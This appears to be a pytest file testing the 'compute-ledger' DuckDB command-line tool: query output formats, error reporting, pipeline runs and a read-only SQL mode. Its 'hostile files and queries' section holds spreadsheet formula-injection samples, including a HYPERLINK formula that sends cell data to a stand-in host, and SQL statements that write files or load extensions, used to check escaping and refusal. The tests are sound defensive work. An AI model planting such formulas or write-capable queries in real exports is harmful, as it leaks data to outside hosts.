"""The `compute-ledger` console script, run as a user runs it."""

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from helpers import MINI_INPUT, TESTS_DIR

SCRIPT = Path(sys.executable).parent / "compute-ledger"


def cli(*args, db=None, env=None):
    environment = {**os.environ, **(env or {})}
    if db is not None:
        environment["COMPUTE_LEDGER_DB"] = str(db)
    return subprocess.run([str(SCRIPT), *args], capture_output=True, text=True, env=environment, timeout=300)


def test_sql_prints_a_table(mini_warehouse):
    out = cli(
        "sql",
        "select company, round_id, equity_usd_mid from marts.leverage_rounds where company = 'Lab A' order by round_id",
        db=mini_warehouse,
    )
    assert out.returncode == 0, out.stderr
    lines = out.stdout.splitlines()
    assert lines[0].split("|")[1].strip() == "company"
    assert "a-r1" in out.stdout and "6,000,000,000" in out.stdout


def test_sql_csv_and_json(mini_warehouse):
    out = cli(
        "sql",
        "select round_id, debt_usd_high from marts.leverage_rounds where round_id = 'a-r1'",
        "--format",
        "csv",
        db=mini_warehouse,
    )
    assert out.stdout.splitlines() == ["round_id,debt_usd_high", "a-r1,4000000000.0"]
    out = cli(
        "sql",
        "select round_id, debt_usd_high from marts.leverage_rounds where round_id = 'a-r1'",
        "--format",
        "json",
        db=mini_warehouse,
    )
    assert json.loads(out.stdout) == [{"round_id": "a-r1", "debt_usd_high": 4e9}]


def test_bad_sql_is_a_clear_error(mini_warehouse):
    out = cli("sql", "select nope from marts.leverage", db=mini_warehouse)
    assert out.returncode == 1
    assert out.stderr.startswith("error: BinderException") and "nope" in out.stderr
    assert "Traceback" not in out.stderr


def test_sql_is_read_only(mini_warehouse):
    out = cli("sql", "delete from marts.leverage", db=mini_warehouse)
    assert out.returncode == 1 and "read-only" in out.stderr
    target = mini_warehouse.parent / "copied.csv"
    copy = cli("sql", f"copy (select 1) to '{target}'", db=mini_warehouse)
    assert copy.returncode == 1 and not target.exists()
    count = cli("sql", "select count(*) as n from marts.leverage", "--format", "csv", db=mini_warehouse)
    assert count.stdout.splitlines()[1] == "2"


def test_missing_warehouse(tmp_path):
    out = cli("sql", "select 1", db=tmp_path / "nothing.duckdb")
    assert out.returncode == 2
    assert "no warehouse at" in out.stderr and "make run" in out.stderr
    assert not (tmp_path / "nothing.duckdb").exists()


def test_run_prints_progress_and_marts(tmp_path):
    db = tmp_path / "w.duckdb"
    out = cli(
        "run",
        db=db,
        env={
            "COMPUTE_LEDGER_INPUT": str(MINI_INPUT),
            "COMPUTE_LEDGER_AS_OF": "2025-09-30",
            "DAGSTER_HOME": str(tmp_path / "home"),
        },
    )
    assert out.returncode == 0, out.stdout + out.stderr
    assert "✓ staging/funding_events" in out.stdout and "6 rows" in out.stdout
    assert "✓ funding_events_expectations" in out.stdout and "checks passed" in out.stdout
    assert "## Runway" in out.stdout and "Lab A" in out.stdout
    assert f"Warehouse: {db}" in out.stdout


def test_run_failure_names_the_file_row_and_column(tmp_path):
    folder = tmp_path / "input"
    subprocess.run(["cp", "-r", str(MINI_INPUT), str(folder)], check=True)
    assumptions = folder / "reference" / "assumptions.csv"
    assumptions.write_text(assumptions.read_text().replace("1.5,1.5,1.5", "1.5,one and a half,1.5"))
    out = cli("run", db=tmp_path / "w.duckdb", env={"COMPUTE_LEDGER_INPUT": str(folder), "DAGSTER_HOME": str(tmp_path / "home")})
    assert out.returncode == 1
    assert "assumptions.csv, row 2, column 'value_mid'" in out.stderr
    # the progress line of the failed step, which still wrote the reference files it could read
    assert "✗ reference_tables: Reference files not loaded — " in out.stdout and "assumptions.csv" in out.stdout
    assert "✓ ref/fx_rates" in out.stdout and "✓ ref/assumptions" not in out.stdout
    assert "Traceback" not in out.stdout + out.stderr


def test_a_blocking_check_that_fails_is_named_with_its_rows(tmp_path):
    folder = tmp_path / "input"
    subprocess.run(["cp", "-r", str(MINI_INPUT), str(folder)], check=True)
    prices = folder / "gpu_prices.csv"
    prices.write_text(prices.read_text().replace("r2,H100,on_demand,3,3,", "r2,H100,on_demand,3000,3000,"))
    env = {"COMPUTE_LEDGER_INPUT": str(folder), "COMPUTE_LEDGER_AS_OF": "2025-09-30", "DAGSTER_HOME": str(tmp_path / "home")}
    out = cli("run", db=tmp_path / "w.duckdb", env=env)
    assert out.returncode == 1
    assert "✗ gpu_prices_expectations: 1 check(s) failed" in out.stdout
    assert "error staging/gpu_prices gpu_hour_plausible: 1 of" in out.stdout
    assert "blocking data-quality checks failed" in out.stderr and "marts/gpu_price_index" in out.stderr


def test_sql_starts_without_dagster_or_great_expectations(mini_warehouse):
    code = (
        "import sys; from pipelines.cli import main; main(['sql', 'select 1 as one', '--db', sys.argv[1]]); "
        "print(sorted(m for m in ('dagster', 'great_expectations', 'pandas') if m in sys.modules))"
    )
    out = subprocess.run([sys.executable, "-c", code, str(mini_warehouse)], capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    assert out.stdout.splitlines()[-1] == "[]"


def test_docs_builds_data_docs_of_the_warehouse(mini_warehouse, tmp_path):
    out = cli("docs", "--db", str(mini_warehouse), "--out", str(tmp_path / "docs"), env={"COMPUTE_LEDGER_AS_OF": "2025-09-30"})
    assert out.returncode == 0, out.stderr
    assert "staging.gpu_prices" in out.stdout and "expectations passed" in out.stdout
    index = tmp_path / "docs" / "index.html"
    assert f"Data Docs: {index}" in out.stdout and index.exists()
    pages = list((tmp_path / "docs" / "validations").rglob("*.html"))
    assert len(pages) == 7


# --- issue 11, hostile files and queries ----------------------------------------------------

FORMULAS = (
    "select '=HYPERLINK(\"http://x\"&A1,\"source\")' as note, -5 as n, '-5' as minus_text, "
    "'+1' as plus, '@SUM(A1)' as at, chr(9) || 'tab' as tab, 'a=b' as plain"
)


def test_sql_csv_escapes_formulas_unless_told_not_to(mini_warehouse):
    out = cli("sql", FORMULAS, "--format", "csv", db=mini_warehouse)
    assert out.returncode == 0, out.stderr
    [header, row] = list(csv.reader(io.StringIO(out.stdout)))
    assert dict(zip(header, row)) == {
        "note": '\'=HYPERLINK("http://x"&A1,"source")',
        "n": "-5",  # a number stays a number
        "minus_text": "'-5",
        "plus": "'+1",
        "at": "'@SUM(A1)",
        "tab": "'\ttab",
        "plain": "a=b",
    }
    raw = cli("sql", FORMULAS, "--format", "csv", "--no-escape-formulas", db=mini_warehouse)
    [_, row] = list(csv.reader(io.StringIO(raw.stdout)))
    assert row[0] == '=HYPERLINK("http://x"&A1,"source")' and row[2] == "-5"
    assert "--no-escape-formulas" in cli("sql", "--help").stdout


@pytest.mark.parametrize(
    ("query", "got"),
    [
        ("call enable_logging(storage='file', storage_path='{tmp}/log')", "CALL"),
        ("pragma version", "PRAGMA"),
        ("select 1; select 2", "2 statements"),
        ("copy (select 1) to '{tmp}/out.csv'", "COPY"),
        ("attach '{tmp}/other.duckdb' as other", "ATTACH"),
        ("set threads = 1", "SET"),
        ("install httpfs", "INSTALL"),
        ("explain analyze delete from marts.leverage", "DELETE"),
    ],
    ids=["call", "pragma", "two-statements", "copy", "attach", "set", "install", "explain-delete"],
)
def test_sql_refuses_anything_but_one_read_only_query(mini_warehouse, tmp_path, query, got):
    out = cli("sql", query.format(tmp=tmp_path), db=mini_warehouse)
    assert out.returncode == 1, out.stdout + out.stderr
    assert out.stderr == f"error: only a single read-only query (select …) is allowed; got {got}\n"
    assert list(tmp_path.iterdir()) == []  # nothing written, nothing attached


def test_a_table_function_cannot_change_settings(mini_warehouse, tmp_path):
    out = cli("sql", f"select * from enable_logging(storage='file', storage_path='{tmp_path}/log')", db=mini_warehouse)
    assert out.returncode == 1 and "configuration has been locked" in out.stderr
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("query", "first_line"),
    [
        ("select 1 as one", "one"),
        ("with rounds as (select * from marts.leverage_rounds) select count(*) as n from rounds", "n"),
        ("from marts.leverage select company order by company limit 1", "company"),
        ("describe marts.leverage", "column_name,column_type,null,key,default,extra"),
        ("summarize select 1 as x", "column_name,column_type,min,max,approx_unique,avg,std,q25,q50,q75,count,null_percentage"),
        ("show tables", "name"),
        ("explain select 1", "explain_key,explain_value"),
        ("pivot (select 'a' as k, 1 as v) on k using sum(v)", "a"),
    ],
    ids=["select", "with", "from-first", "describe", "summarize", "show", "explain", "pivot"],
)
def test_sql_read_only_forms_still_work(mini_warehouse, query, first_line):
    out = cli("sql", query, "--format", "csv", db=mini_warehouse)
    assert out.returncode == 0, out.stderr
    assert out.stdout.splitlines()[0] == first_line


def test_run_failure_is_our_message_without_class_names(tmp_path):
    folder = tmp_path / "input"
    subprocess.run(["cp", "-r", str(MINI_INPUT), str(folder)], check=True)
    bad = folder / "funding_events_ragged_row.csv"
    bad.write_bytes((TESTS_DIR / "corpus" / "funding_events_ragged_row.csv").read_bytes())
    out = cli("run", db=tmp_path / "w.duckdb", env={"COMPUTE_LEDGER_INPUT": str(folder), "DAGSTER_HOME": str(tmp_path / "home")})
    assert out.returncode == 1
    [line] = [line for line in out.stderr.splitlines() if line.startswith("Run failed:")]
    assert line == f"Run failed: raw__funding_events: {bad}, row 3: has 25 fields where the header has 23"
    assert "InputFileError" not in out.stdout + out.stderr and "assets." not in out.stdout + out.stderr
